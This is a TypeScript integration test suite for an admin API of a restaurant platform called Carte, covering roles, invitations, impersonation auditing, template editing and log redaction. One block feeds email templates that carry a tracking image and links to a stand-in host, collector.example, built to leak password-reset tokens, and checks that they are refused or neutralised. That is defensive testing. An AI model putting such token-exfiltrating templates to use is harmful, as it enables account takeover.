import { type AdminStatistics, type AdminUser, messages, type ShapeshiftResult } from '@carte/domain';
import { and, desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminAudit, mails, mailTemplates, users } from '../src/db/schema.ts';
import { linkTo, startTestApp, type TestApp, tokenOf } from './app.ts';
import { createOwner, ownerWithToken, PASSWORD, signIn, userRow } from './factories.ts';

let t: TestApp;
let root: { accessToken: string; refreshToken: string };
let admin: { token: string; id: string; username: string };
beforeAll(async () => {
  t = await startTestApp({ BILLING_PROVIDER: 'local' });
  root = await signIn(t, 'root@carte.test', 'RootPass123');
  const created = await createOwner(t, { role: 'ADMIN' });
  admin = {
    token: (await signIn(t, created.user.username)).accessToken,
    id: created.user.id,
    username: created.user.username,
  };
});
afterAll(async () => {
  await t?.close();
});

let counter = 0;
const email = (label: string) => `${label}_${process.pid}_${++counter}@carte.test`;

/** Every admin call with a valid body (ids of records that exist where one is needed). */
async function everyCall(): Promise<
  { method: 'GET' | 'POST' | 'DELETE'; url: string; payload?: object; superOnly?: boolean }[]
> {
  const owner = await createOwner(t);
  const other = await createOwner(t, { role: 'ADMIN' });
  return [
    { method: 'GET', url: '/api/admin/users' },
    { method: 'GET', url: '/api/admin/restaurants' },
    { method: 'GET', url: '/api/admin/statistics' },
    { method: 'POST', url: '/api/admin/create', payload: { email: email('new-admin') }, superOnly: true },
    { method: 'GET', url: '/api/admin/load', superOnly: true },
    { method: 'POST', url: '/api/admin/resend-invitation', payload: { _id: other.user.id }, superOnly: true },
    {
      method: 'DELETE',
      url: '/api/admin/delete',
      payload: { _id: other.user.id, password: 'x' },
      superOnly: true,
    },
    { method: 'DELETE', url: '/api/admin/delete/user', payload: { _id: owner.user.id, password: 'x' } },
    { method: 'GET', url: '/api/admin/dietary' },
    { method: 'POST', url: '/api/admin/dietary/create', payload: { diets: [], foodTypes: [], other: [] } },
    {
      method: 'POST',
      url: '/api/admin/add-user',
      payload: { username: `u${++counter}x${process.pid}`, email: email('u'), restaurantName: 'R' },
    },
    { method: 'POST', url: '/api/admin/subscribe-user', payload: { plan_id: 'p', user_id: owner.user.id } },
    { method: 'GET', url: '/api/admin/logs' },
    { method: 'DELETE', url: '/api/admin/logs', payload: { ids: [owner.user.id] } },
    { method: 'GET', url: '/api/admin/email-templates' },
    { method: 'GET', url: '/api/admin/get-email-template?template=user-verify-account' },
    {
      method: 'POST',
      url: '/api/admin/edit-email-template',
      payload: { template: 'dma-deleted', subject: 'S', emailContent: '<p>x</p>' },
    },
    { method: 'POST', url: '/api/admin/email-templates/test', payload: { template: 'dma-deleted' } },
    { method: 'GET', url: '/api/admin/outbox' },
    // Last: acting as someone ends the caller's own session.
    { method: 'POST', url: '/api/admin/shapeshift', payload: { _id: owner.user.id } },
  ];
}

describe('roles', () => {
  it('an owner, a member-less reseller and a signed-out visitor are refused every admin call', async () => {
    const owner = await ownerWithToken(t);
    const reseller = await createOwner(t, { role: 'DMA' });
    const resellerToken = (await signIn(t, reseller.user.username)).accessToken;
    for (const call of await everyCall()) {
      for (const token of [owner.token, resellerToken]) {
        const answer = await t.call({ ...call, token });
        expect(answer.status, `${call.method} ${call.url}`).toBe(403);
      }
      expect((await t.call(call)).status, `${call.method} ${call.url}`).toBe(401);
    }
  });

  it('an ADMIN is refused the super admin’s calls and reaches the others', async () => {
    const fresh = await createOwner(t, { role: 'ADMIN' });
    const token = (await signIn(t, fresh.user.username)).accessToken;
    for (const call of await everyCall()) {
      const answer = await t.call({ ...call, token });
      if (call.superOnly) expect(answer.status, `${call.method} ${call.url}`).toBe(403);
      else expect(answer.status, `${call.method} ${call.url}`).not.toBe(403);
    }
  });

  it('the statistics hide the admins count from an ADMIN only', async () => {
    const asAdmin = await t.call<AdminStatistics>({
      method: 'GET',
      url: '/api/admin/statistics',
      token: admin.token,
    });
    expect(asAdmin.body.message.admins).toBeNull();
    const asRoot = await t.call<AdminStatistics>({
      method: 'GET',
      url: '/api/admin/statistics',
      token: root.accessToken,
    });
    expect(asRoot.body.message.admins).toBeGreaterThanOrEqual(1);
    expect(asRoot.body.message.signUps).toHaveLength(30);
  });
});

describe('admins', () => {
  it('the super admin adds an admin who completes the account from the mailed link and signs in', async () => {
    const address = email('admin');
    const created = await t.call<AdminUser>({
      method: 'POST',
      url: '/api/admin/create',
      token: root.accessToken,
      payload: { firstName: 'Ada', lastName: 'Min', email: address },
    });
    expect(created.status).toBe(200);
    expect(created.body.message.verified).toBe(false);
    const listed = await t.call<AdminUser[]>({
      method: 'GET',
      url: '/api/admin/load',
      token: root.accessToken,
    });
    expect(listed.body.message.map((row) => row.email)).toContain(address);

    const mail = await t.sink.waitFor((m) => m.to.includes(address));
    const token = tokenOf(linkTo(mail, '/admin-complete-account'));
    const shown = await t.call({ method: 'GET', url: `/api/admin/verify-account-token/${token}` });
    expect(shown.body.message).toEqual({ firstName: 'Ada', lastName: 'Min', email: address });

    const mismatch = await t.call({
      method: 'POST',
      url: `/api/admin/complete-account/${token}`,
      payload: { username: `ada${counter}`, password: PASSWORD, confirm_password: 'other' },
    });
    expect(mismatch.body.message).toBe(messages.passwordMismatch);
    const username = `ada_${process.pid}_${counter}`;
    const done = await t.call({
      method: 'POST',
      url: `/api/admin/complete-account/${token}`,
      payload: { username, phoneNumber: '', password: PASSWORD, confirm_password: PASSWORD },
    });
    expect(done.body.message).toBe(messages.adminAccountCompleted);
    const again = await t.call({ method: 'GET', url: `/api/admin/verify-account-token/${token}` });
    expect(again.status).toBe(400);
    expect(again.body.message).toBe(messages.adminLinkInvalid);
    const session = await signIn(t, username);
    expect(
      (await t.call({ method: 'GET', url: '/api/admin/users', token: session.accessToken })).status,
    ).toBe(200);
    expect((await t.call({ method: 'GET', url: '/api/admin/load', token: session.accessToken })).status).toBe(
      403,
    );
  });

  it('resending an invitation makes the older link stop working; deleting needs the password', async () => {
    const address = email('admin2');
    const created = await t.call<AdminUser>({
      method: 'POST',
      url: '/api/admin/create',
      token: root.accessToken,
      payload: { email: address },
    });
    const first = tokenOf(
      linkTo(await t.sink.waitFor((m) => m.to.includes(address)), '/admin-complete-account'),
    );
    const resent = await t.call({
      method: 'POST',
      url: '/api/admin/resend-invitation',
      token: root.accessToken,
      payload: { _id: created.body.message._id },
    });
    expect(resent.body.message).toBe(messages.invitationResent);
    expect((await t.call({ method: 'GET', url: `/api/admin/verify-account-token/${first}` })).status).toBe(
      400,
    );

    const noPassword = await t.call({
      method: 'DELETE',
      url: '/api/admin/delete',
      token: root.accessToken,
      payload: { _id: created.body.message._id, password: '' },
    });
    expect(noPassword.body.message).toBe(messages.adminPasswordRequired);
    const wrong = await t.call({
      method: 'DELETE',
      url: '/api/admin/delete',
      token: root.accessToken,
      payload: { _id: created.body.message._id, password: 'WrongPass1!' },
    });
    expect(wrong.body.message).toBe(messages.wrongPassword);
    const deleted = await t.call({
      method: 'DELETE',
      url: '/api/admin/delete',
      token: root.accessToken,
      payload: { _id: created.body.message._id, password: 'RootPass123' },
    });
    expect(deleted.body.message).toBe(messages.adminDeleted);
    const [row] = await t.runtime.database.db
      .select()
      .from(users)
      .where(eq(users.id, created.body.message._id));
    expect(row).toBeUndefined();
  });
});

describe('users', () => {
  it('an admin adds a user, who sets a password from the mailed link; the super admin is told', async () => {
    const address = email('added');
    const username = `added_${process.pid}_${counter}`;
    const added = await t.call<{ newUser: AdminUser }>({
      method: 'POST',
      url: '/api/admin/add-user',
      token: admin.token,
      payload: { firstName: 'Ann', lastName: 'Lee', username, email: address, restaurantName: 'Harbour' },
    });
    expect(added.status).toBe(200);
    expect(added.body.message.newUser).toMatchObject({
      username,
      restaurantName: 'Harbour',
      verified: false,
    });
    const mail = await t.sink.waitFor((m) => m.to.includes(address));
    const token = tokenOf(linkTo(mail, '/user-verify-account'));
    const verify = await t.call({
      method: 'POST',
      url: '/api/users/verify-account-and-enter-password',
      payload: { token, password: PASSWORD, confirm_password: PASSWORD },
    });
    expect(verify.status, JSON.stringify(verify.body)).toBe(200);
    await signIn(t, username);
    await t.sink.waitFor((m) => m.to.includes('root@carte.test') && m.text.includes(username));

    const invalid = await t.call({
      method: 'POST',
      url: '/api/admin/add-user',
      token: admin.token,
      payload: { username: 'someone', email: 'not-an-email', restaurantName: 'R' },
    });
    expect(invalid.body.message).toBe(messages.emailInvalid);
    const taken = await t.call({
      method: 'POST',
      url: '/api/admin/add-user',
      token: admin.token,
      payload: { username, email: email('x'), restaurantName: 'R' },
    });
    expect(taken.body.message).toBe(messages.usernameTaken);
  });

  it('the subscribe step opens a checkout for the user’s restaurant', async () => {
    const owner = await createOwner(t);
    const prices = await t.call<{ monthly_product: { price: { id: string } } }>({
      method: 'GET',
      url: '/api/subscription/base-product',
      token: admin.token,
    });
    const answer = await t.call<{ id: string }>({
      method: 'POST',
      url: '/api/admin/subscribe-user',
      token: admin.token,
      payload: { plan_id: prices.body.message.monthly_product.price.id, user_id: owner.user.id },
    });
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    expect(answer.body.message.id).toBeTruthy();
  });

  it('deleting a user removes the restaurant too, after the admin’s password', async () => {
    const owner = await createOwner(t);
    const deleted = await t.call({
      method: 'DELETE',
      url: '/api/admin/delete/user',
      token: admin.token,
      payload: { _id: owner.user.id, password: PASSWORD },
    });
    expect(deleted.body.message).toBe(messages.userDeleted);
    const listed = await t.call<AdminUser[]>({ method: 'GET', url: '/api/admin/users', token: admin.token });
    expect(listed.body.message.map((row) => row._id)).not.toContain(owner.user.id);
  });
});

describe('login as', () => {
  it('acts as the user, records both identities, and returns to the admin without a password', async () => {
    const me = await createOwner(t, { role: 'ADMIN' });
    const session = await signIn(t, me.user.username);
    const owner = await createOwner(t);
    const acting = await t.call<ShapeshiftResult>({
      method: 'POST',
      url: '/api/admin/shapeshift',
      token: session.accessToken,
      payload: { _id: owner.user.id, refreshToken: session.refreshToken, email: owner.user.email },
    });
    expect(acting.status).toBe(200);
    expect(acting.body.message.user.username).toBe(owner.user.username);
    expect(acting.body.message.impersonator.username).toBe(me.user.username);
    // The admin's own session ended: it is carried by the acting one now.
    expect(
      (await t.call({ method: 'GET', url: '/api/admin/users', token: session.accessToken })).status,
    ).toBe(401);

    const edit = await t.call({
      method: 'POST',
      url: '/api/menus',
      token: acting.body.message.accessToken,
      payload: { name: 'Acted menu' },
    });
    expect(edit.status).toBeLessThan(500);
    const [row] = await t.runtime.database.db
      .select()
      .from(adminAudit)
      .where(and(eq(adminAudit.adminId, me.user.id), eq(adminAudit.action, 'request-as-user')))
      .orderBy(desc(adminAudit.createdAt));
    expect(row).toMatchObject({ targetUserId: owner.user.id, detail: 'POST /api/menus' });

    // A refreshed acting session is still one.
    const refreshed = await t.call<{ accessToken: string }>({
      method: 'POST',
      url: '/api/users/token',
      payload: { refreshToken: acting.body.message.refreshToken },
    });
    const back = await t.call<{ accessToken: string; user: { username: string } }>({
      method: 'POST',
      url: '/api/admin/return',
      token: refreshed.body.message.accessToken,
    });
    expect(back.status).toBe(200);
    expect(back.body.message.user.username).toBe(me.user.username);
    expect(
      (await t.call({ method: 'GET', url: '/api/admin/users', token: back.body.message.accessToken })).status,
    ).toBe(200);
    expect(
      (await t.call({ method: 'GET', url: '/api/users/me', token: refreshed.body.message.accessToken }))
        .status,
    ).toBe(401);
    // An ordinary session has nothing to return to.
    const plain = await ownerWithToken(t);
    expect((await t.call({ method: 'POST', url: '/api/admin/return', token: plain.token })).status).toBe(403);
  });

  it('an admin cannot act as the super admin, nor as an unverified account', async () => {
    const [superAdmin] = await t.runtime.database.db
      .select()
      .from(users)
      .where(eq(users.role, 'SUPER_ADMIN'));
    const refused = await t.call({
      method: 'POST',
      url: '/api/admin/shapeshift',
      token: admin.token,
      payload: { _id: superAdmin!.id },
    });
    expect(refused.body.message).toBe(messages.cannotActAs);
    const unverified = await createOwner(t, { verified: false });
    const answer = await t.call({
      method: 'POST',
      url: '/api/admin/shapeshift',
      token: admin.token,
      payload: { _id: unverified.user.id },
    });
    expect(answer.body.message).toBe(messages.clientNotVerified);
  });
});

describe('platform lists and templates', () => {
  it('the saved dietary lists are what a new restaurant is offered; tags must be unique', async () => {
    const saved = await t.call({
      method: 'POST',
      url: '/api/admin/dietary/create',
      token: admin.token,
      payload: { diets: ['Vegan', 'Flexitarian'], foodTypes: ['Gluten'], other: ['Spicy'] },
    });
    expect(saved.status).toBe(200);
    const owner = await ownerWithToken(t);
    const offered = await t.call<{ dietaryConsiderations: { admin: { diets: string[] } } }>({
      method: 'GET',
      url: '/api/dietary',
      token: owner.token,
    });
    expect(offered.body.message.dietaryConsiderations.admin.diets).toEqual(['Vegan', 'Flexitarian']);
    const duplicate = await t.call({
      method: 'POST',
      url: '/api/admin/dietary/create',
      token: admin.token,
      payload: { diets: ['Vegan', 'vegan'], foodTypes: [], other: [] },
    });
    expect(duplicate.body.message).toBe(messages.dietaryTagsUnique);
  });

  it('an edited template is the text of the next mail', async () => {
    const read = await t.call<{ subject: string; placeholders: string[] }>({
      method: 'GET',
      url: '/api/admin/get-email-template?template=user-verify-account',
      token: admin.token,
    });
    expect(read.body.message.placeholders).toContain('user.firstName');
    const saved = await t.call({
      method: 'POST',
      url: '/api/admin/edit-email-template',
      token: admin.token,
      payload: {
        template: 'user-verify-account',
        subject: 'Welcome aboard {{user.firstName}}',
        emailContent:
          '<p>Hello from the edited template, {{user.firstName}}.</p><p><a href="{{link}}">Verify</a></p>',
      },
    });
    expect(saved.body.message).toBe(messages.templateUpdated);
    const address = email('edited');
    await t.call({
      method: 'POST',
      url: '/api/admin/add-user',
      token: admin.token,
      payload: {
        firstName: 'Zoe',
        username: `zoe_${process.pid}_${counter}`,
        email: address,
        restaurantName: 'Z',
      },
    });
    const mail = await t.sink.waitFor((m) => m.to.includes(address));
    expect(mail.subject).toBe('Welcome aboard Zoe');
    expect(mail.text).toContain('Hello from the edited template, Zoe.');
    const unknown = await t.call({
      method: 'GET',
      url: '/api/admin/get-email-template?template=nope',
      token: admin.token,
    });
    expect(unknown.status).toBe(404);
  });
});

describe('templates cannot carry secrets away (issue 20)', () => {
  const editTemplate = (subject: string, emailContent: string, template = 'user-forgot-password') =>
    t.call({
      method: 'POST',
      url: '/api/admin/edit-email-template',
      token: admin.token,
      payload: { template, subject, emailContent },
    });
  const readTemplate = async (template = 'user-forgot-password') =>
    (
      await t.call<{ subject: string; content: string }>({
        method: 'GET',
        url: `/api/admin/get-email-template?template=${template}`,
        token: admin.token,
      })
    ).body.message;
  const requestReset = (address: string, ip: string) =>
    t.call({
      method: 'POST',
      url: '/api/users/request-new-password',
      payload: { email: address },
      remoteAddress: ip,
    });
  const collectorImage = '<img src="https://collector.example/p.gif?t={{link}}">';

  it('refuses a secret placeholder anywhere but the whole address of a link, and changes nothing', async () => {
    const before = await readTemplate();
    const refused: [string, string, string][] = [
      ['Reset', `<p>Hi</p>${collectorImage}<a href="{{link}}">Reset</a>`, '{{link}}'],
      ['Reset', '<p title="{{link}}">Hi</p>', '{{link}}'],
      ['Reset', '<a href="{{link}}&amp;next=1">Reset</a>', '{{link}}'],
      ['Reset', '<a href="https://collector.example/?t={{link}}">Reset</a>', '{{link}}'],
      ['Reset', '<p>Your code: {{ token }}</p>', '{{token}}'],
      ['Reset', '<a href="https://collector.example/">{{link}}</a>', '{{link}}'],
    ];
    for (const [subject, content, placeholder] of refused) {
      const answer = await editTemplate(subject, content);
      expect(answer.status, content).toBe(400);
      expect(answer.body.message).toBe(messages.mailSecretOnlyInLink(placeholder));
    }
    const inSubject = await editTemplate('Reset {{link}}', '<a href="{{link}}">Reset</a>');
    expect(inSubject.status).toBe(400);
    expect(inSubject.body.message).toBe(messages.mailSecretNotInSubject('{{link}}'));
    expect(await readTemplate()).toEqual(before);
  });

  it('removes remote images on save and keeps Carte’s own', async () => {
    const saved = await editTemplate(
      'Your username',
      '<p>Hi</p><img src="https://collector.example/open.gif" alt="pixel"><img src="http://carte.test/logo.png" alt="logo"><img src="{{publicUrl}}/brand.png" alt="brand">',
      'user-forgot-username',
    );
    expect(saved.status).toBe(200);
    const { content } = await readTemplate('user-forgot-username');
    expect(content).not.toContain('collector');
    expect(content).toContain('http://carte.test/logo.png');
    expect(content).toContain('{{publicUrl}}/brand.png');
  });

  it('the measured attack: a collector image stored around the API mails no token, and the super admin gets the built-in template', async () => {
    // The API refuses it (above); a template written straight into the table is rendered safely too.
    await t.runtime.database.db
      .update(mailTemplates)
      .set({
        subject: 'Reset {{link}}',
        content: `<p>Edited reset</p>${collectorImage}<a href="https://collector.example/?t={{token}}">help</a><a href="{{link}}">Reset</a>`,
      })
      .where(eq(mailTemplates.name, 'user-forgot-password'));

    await requestReset('root@carte.test', '10.20.0.1');
    const rootMail = await t.sink.waitFor(
      (m) => m.to.includes('root@carte.test') && m.subject === 'Reset your Carte password',
    );
    expect(rootMail.html).not.toContain('collector');
    expect(rootMail.text).not.toContain('Edited reset');
    const rootToken = tokenOf(linkTo(rootMail, '/reset-password'));
    const check = await t.call({ method: 'GET', url: `/api/users/reset-password-check-token/${rootToken}` });
    expect(check.status).toBe(200);

    // An owner gets the edited text, with the token only in the link to Carte's own page.
    const owner = await createOwner(t);
    await requestReset(owner.user.email, '10.20.0.2');
    const ownerMail = await t.sink.waitFor((m) => m.to.includes(owner.user.email));
    expect(ownerMail.subject).toBe('Reset');
    expect(ownerMail.text).toContain('Edited reset');
    expect(ownerMail.html).not.toMatch(/<img/);
    const ownerLink = linkTo(ownerMail, '/reset-password');
    const ownerToken = tokenOf(ownerLink);
    expect(ownerLink.startsWith('http://carte.test/')).toBe(true);
    expect(ownerMail.html.split(ownerToken)).toHaveLength(2);
    const [row] = await t.runtime.database.db
      .select()
      .from(mails)
      .where(and(eq(mails.to, owner.user.email), eq(mails.template, 'user-forgot-password')));
    expect(row?.html).not.toContain('collector.example/p.gif');
    expect(row?.html.split(ownerToken)).toHaveLength(2);
  });

  it('an ordinary edited template with <a href="{{link}}"> still works for owners', async () => {
    const saved = await editTemplate(
      'Reset for {{user.username}}',
      '<p>New words for {{user.username}}.</p><p><a href="{{link}}">Choose a password</a></p><p><a href="{{link}}">{{link}}</a></p>',
    );
    expect(saved.status).toBe(200);
    const owner = await createOwner(t);
    await requestReset(owner.user.email, '10.20.0.3');
    const mail = await t.sink.waitFor((m) => m.to.includes(owner.user.email));
    expect(mail.subject).toBe(`Reset for ${owner.user.username}`);
    expect(mail.text).toContain(`New words for ${owner.user.username}.`);
    const token = tokenOf(linkTo(mail, '/reset-password'));
    const reset = await t.call({
      method: 'POST',
      url: `/api/users/reset-password/${token}`,
      payload: { password: 'Fresh1234!', confirmPassword: 'Fresh1234!' },
    });
    expect(reset.status).toBe(200);
  });

  it('the admin invitation and the new-account notice to the super admin use the built-in templates', async () => {
    expect(
      (await editTemplate('Edited invitation', '<a href="{{link}}">Join</a>', 'admin-created')).status,
    ).toBe(200);
    expect(
      (await editTemplate('Edited notice', '<p>Edited notice</p>', 'new-account-creation-notify')).status,
    ).toBe(200);
    const invited = email('invited-admin');
    await t.call({
      method: 'POST',
      url: '/api/admin/create',
      token: root.accessToken,
      payload: { firstName: 'Ivy', lastName: 'Staff', email: invited },
    });
    const invitation = await t.sink.waitFor((m) => m.to.includes(invited));
    expect(invitation.subject).toBe('You are invited to administer Carte');
    expect(linkTo(invitation, '/admin-complete-account')).toMatch(/^http:\/\/carte\.test\//);

    const username = `notice_${process.pid}_${++counter}`;
    await t.call({
      method: 'POST',
      url: '/api/admin/add-user',
      token: admin.token,
      payload: { firstName: 'Nia', username, email: email('notice'), restaurantName: 'N' },
    });
    const notice = await t.sink.waitFor(
      (m) => m.to.includes('root@carte.test') && m.subject === `New Carte account: ${username}`,
    );
    expect(notice.text).not.toContain('Edited notice');
  });

  it('the test mail shows an admin the edited template', async () => {
    await editTemplate('Edited dma-deleted', '<p>Edited test body</p>', 'dma-deleted');
    const me = await userRow(t, admin.id);
    const answer = await t.call({
      method: 'POST',
      url: '/api/admin/email-templates/test',
      token: admin.token,
      payload: { template: 'dma-deleted' },
    });
    expect(answer.body.message).toBe(messages.templateTestSent(me!.email));
    const mail = await t.sink.waitFor((m) => m.to.includes(me!.email) && m.subject === 'Edited dma-deleted');
    expect(mail.text).toContain('Edited test body');
  });
});

describe('developer logs', () => {
  it('lists failed requests and the web app’s own errors, filters them and deletes the selected', async () => {
    const owner = await ownerWithToken(t);
    await t.call({ method: 'GET', url: '/api/menus/0123456789abcdef01234567', token: owner.token });
    const reported = await t.call({
      method: 'POST',
      url: '/api/admin/loggers',
      token: owner.token,
      payload: { message: '', url: '/create-menu' },
    });
    expect(reported.status).toBe(200);
    const page = await t.call<{ data: { _id: string; status_code: number; user: { username: string } }[] }>({
      method: 'GET',
      url: '/api/admin/logs?status=0',
      token: admin.token,
    });
    const mine = page.body.message.data.filter((log) => log.user.username === owner.user.username);
    expect(mine).toHaveLength(1);
    // Mailed tokens never reach the log: not in a failed request's address, not in a page's.
    const secret = 'AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcde';
    await t.call({ method: 'GET', url: `/api/admin/verify-account-token/${secret}` });
    await t.call({ method: 'GET', url: `/api/members/verify?token=${secret}&x=1` });
    await t.call({
      method: 'POST',
      url: '/api/admin/loggers',
      token: owner.token,
      payload: { message: 'boom', url: `/reset-password?token=${secret}` },
    });
    const all = await t.call<{ data: { url: string }[] }>({
      method: 'GET',
      url: '/api/admin/logs?per_page=100',
      token: admin.token,
    });
    const urls = all.body.message.data.map((log) => log.url);
    expect(urls).toEqual(
      expect.arrayContaining([
        '/api/admin/verify-account-token/[redacted]',
        '/api/members/verify?token=[redacted]&x=1',
        '/reset-password?token=[redacted]',
      ]),
    );
    expect(urls.filter((url) => url.includes(secret))).toEqual([]);

    const deleted = await t.call({
      method: 'DELETE',
      url: '/api/admin/logs',
      token: admin.token,
      payload: { ids: [mine[0]!._id] },
    });
    expect(deleted.body.message).toBe(messages.logsDeleted);
  });
});
